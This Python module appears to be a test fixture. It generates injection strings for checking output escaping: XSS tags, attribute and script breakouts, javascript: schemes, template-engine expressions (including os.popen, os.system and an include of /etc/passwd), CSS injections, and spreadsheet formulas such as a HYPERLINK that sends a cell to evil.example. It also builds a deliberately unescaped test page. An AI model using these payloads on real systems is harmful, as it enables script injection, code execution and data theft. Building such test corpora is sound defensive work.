"""
Strings that want to be more than words: shapes of our own, times the places that a careless page would put them in.

Each calls `hit()` when a browser, a template engine or a spreadsheet takes it for more than text. None is aimed at a
known fault; together they cover the ways in which text has become code elsewhere.
"""

from __future__ import annotations

from itertools import product

ELEMENTS = (
    "<script>hit()</script>",
    "<script src=data:text/javascript,hit()></script>",
    "<script type=module>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img/src=x/onerror=hit()//",
    '<IMG SRC="x" ONERROR="hit()">',
    "<img src=x onerror=&#104;&#105;&#116;()>",
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=hit()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()></audio>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<iframe src=javascript:parent.hit()></iframe>",
    "<object data=x onerror=hit()></object>",
    "<embed src=x onerror=hit()>",
    "<link rel=stylesheet href=x onerror=hit()>",
    "<style onload=hit()></style>",
    "<template><script>hit()</script></template><img src=x onerror=hit()>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "<b hx-on:htmx:load=hit() hx-get=/about hx-trigger=load>x</b>",
    "<div data-hx-get=/about data-hx-trigger=load hx-vals='js:{x: hit()}'>x</div>",
    "<form action=javascript:hit()><button autofocus>x</button></form>",
)
"""Elements that run when a browser meets them."""
WAYS_OUT = (
    "",
    '">',
    "'>",
    "`>",
    "x>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</select></option>",
)
"""What leads out of the place where a careless page put the string."""
ATTRIBUTES = tuple(
    f"{quote} {event}=hit(){rest}"
    for quote, (event, rest) in product(
        ('"', "'", "`", '"x', "&quot;", "&#34;"),
        (
            ("onfocus", " autofocus tabindex=0 x="),
            ("onmouseover", " x="),
            ("onerror", " src=x x="),
            ("onload", " x="),
            ("style", ";background:url(x) x="),
            ("formaction", " type=submit x="),
        ),
    )
)
"""Attributes that a value without a right end would gain."""
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "\x01javascript:",
    "java\tscript:",
    "javascript\u200b:",
    "javascript&colon;",
    "&#106;avascript:",
    "%6Aavascript:",
    "javascript://example.org/%0a",
    "vbscript:",
    "livescript:",
    "data:text/html,<script>parent.hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==#",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>#",
    "blob:",
    "file:///",
    "view-source:",
    "//evil.example/",
    "\\\\evil.example\\",
    "https:\\evil.example#",
    "http://evil.example\\@localhost/",
    "jar:javascript:",
    "feed:javascript:",
)
"""Beginnings of addresses that are none."""
QUOTED = (
    "'-hit()-'",
    '"-hit()-"',
    "`-hit()-`",
    "\\'-hit()//",
    '\\"-hit()//',
    "${hit()}",
    "';hit();//",
    '";hit();//',
    "\u2028hit()",
    "\u2029hit()",
    "*/hit()/*",
    "</script><script>hit()//",
    "<!--<script>hit()//",
    "\\u0027-hit()-\\u0027",
    "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
    "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
    "]};hit();//",
    "})();hit();(()=>{",
    '{"__proto__":{"onload":"hit()"}}',
    '"}]</script><svg onload=hit()>',
)
"""What ends a string of a script, or a piece of JSON that stands in a page."""
TEMPLATES = (
    "{{hit()}}",
    "{{7*7}}{{hit()}}",
    "{{constructor.constructor('hit()')()}}",
    "{{$on.constructor('hit()')()}}",
    "{{ cycler.__init__.__globals__.os.popen('hit()').read() }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ config.items() }}",
    "{% import os %}{{ os.system('hit()') }}",
    "{% raw %}<img src=x onerror=hit()>{% endraw %}",
    "{% extends 'about.html' %}",
    "{% include '/etc/passwd' %}",
    "{{ '<img src=x onerror=hit()>' | safe }}",
    "{# hit() #}",
    "{{ request.app.state.token }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "#{hit()}",
    "<%= hit() %>",
    "<% hit() %>",
    "[[${hit()}]]",
    "*{hit()}",
    "@{hit()}",
    "<#assign x=hit()>",
    "#set($x=hit())",
    "<?php hit() ?>",
    "<?= hit() ?>",
    "{{{hit()}}}",
    "{{&hit()}}",
    "[(hit())]",
    "!{hit()}",
    "{hit()}",
    "%{hit()}",
    "{0.__class__.__init__.__globals__}",
    "%(hit)s",
    "$(hit)",
    "`hit`",
    "$`hit()`",
    "<c:out value='${hit()}'/>",
    "<!--#exec cmd='hit' -->",
    "<esi:include src=//evil.example/>",
)
"""Expressions of template engines, ours among them, of format strings, and of shells."""
STYLES = (
    "expression(hit())",
    "}*{background:url(javascript:hit())}",
    "</style><img src=x onerror=hit()>",
    "@import '//evil.example';",
    "\\65xpression(hit())",
    "red;background:url(//evil.example/?",
    "};</style><svg/onload=hit()>",
    "url(x)'onerror='hit()",
    "-moz-binding:url(//evil.example#x)",
    "behavior:url(x.htc)",
    "*{x:\\0022}</style><script>hit()</script>",
    "/*</style>*/<img src=x onerror=hit()>",
)
"""Pieces of style sheets."""
FORMULAS = (
    '=HYPERLINK("//evil.example/?"&A1,"hit")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=hit()",
    "\r=hit()",
    " =hit()",
    "'=hit()",
    "＝hit()",
    "＋1",
    "－1",
    "＠hit",
    "=cmd|' /C hit'!A0",
    '=IMPORTXML("//evil.example","//a")',
    '"=hit()',
    '";=hit()',
    ",=hit()",
    "\u00a0=hit()",
    "\ufeff=hit()",
    "“=hit()",
    '=DDE("hit";"x";"y")',
    "%0A=hit()",
    '="a"&hit()',
)
"""What a spreadsheet would work out."""
DISGUISED = tuple(
    made(one)
    for made, one in product(
        (
            lambda words: words.replace("<", "＜").replace(">", "＞"),
            lambda words: words.replace("<", "&lt;").replace(">", "&gt;"),
            lambda words: words.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
            lambda words: words.replace("<", "&#x3c;").replace(">", "&#x3e;"),
            lambda words: words.replace("<", "%3C").replace(">", "%3E"),
            lambda words: words.replace("<", "%253C").replace(">", "%253E"),
            lambda words: words.replace("<", "+ADw-").replace(">", "+AD4-"),
            lambda words: words.replace("<", "<\u200b"),
            lambda words: words.replace("<", "\u202e<"),
            lambda words: words.replace("<", "<\u0338"),
            lambda words: words.replace("<", "‹").replace(">", "›"),
            lambda words: words.replace("<", "À¼").replace(">", "À¾"),
            lambda words: words.replace("i", "ı"),
            lambda words: words.replace("s", "ſ"),
            lambda words: words.replace("<", "<<"),
            lambda words: words.swapcase().replace("HIT", "hit"),
        ),
        ("<script>hit()</script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", '"><svg onload=hit()>'),
    )
)
"""The plainest ones in other letters, of which something on the way might make the plain ones again."""

STRINGS = tuple(
    dict.fromkeys(
        [
            *(f"{out}{element}" for element, out in product(ELEMENTS, WAYS_OUT)),
            *ATTRIBUTES,
            *(f"{scheme}hit()" for scheme in SCHEMES),
            *QUOTED,
            *TEMPLATES,
            *STYLES,
            *FORMULAS,
            *DISGUISED,
        ]
    )
)
"""All of them, each once."""

CARELESS = """<!doctype html><title>%s</title><p title="%s"><p title='%s'><p title=%s><a href="%s">x</a>
<textarea>%s</textarea><style>p { color: %s }</style><script>var x = "%s"</script><script>var x = '%s'</script>
<!-- %s --><select><option>%s</option></select><iframe src="%s"></iframe><div>%s</div>"""
"""A page that trusts what it is given, in all the places where pages of others have."""


def careless(string: str) -> str:
    """Return a page that puts a string everywhere as it stands."""
    return CARELESS.replace("%s", string)
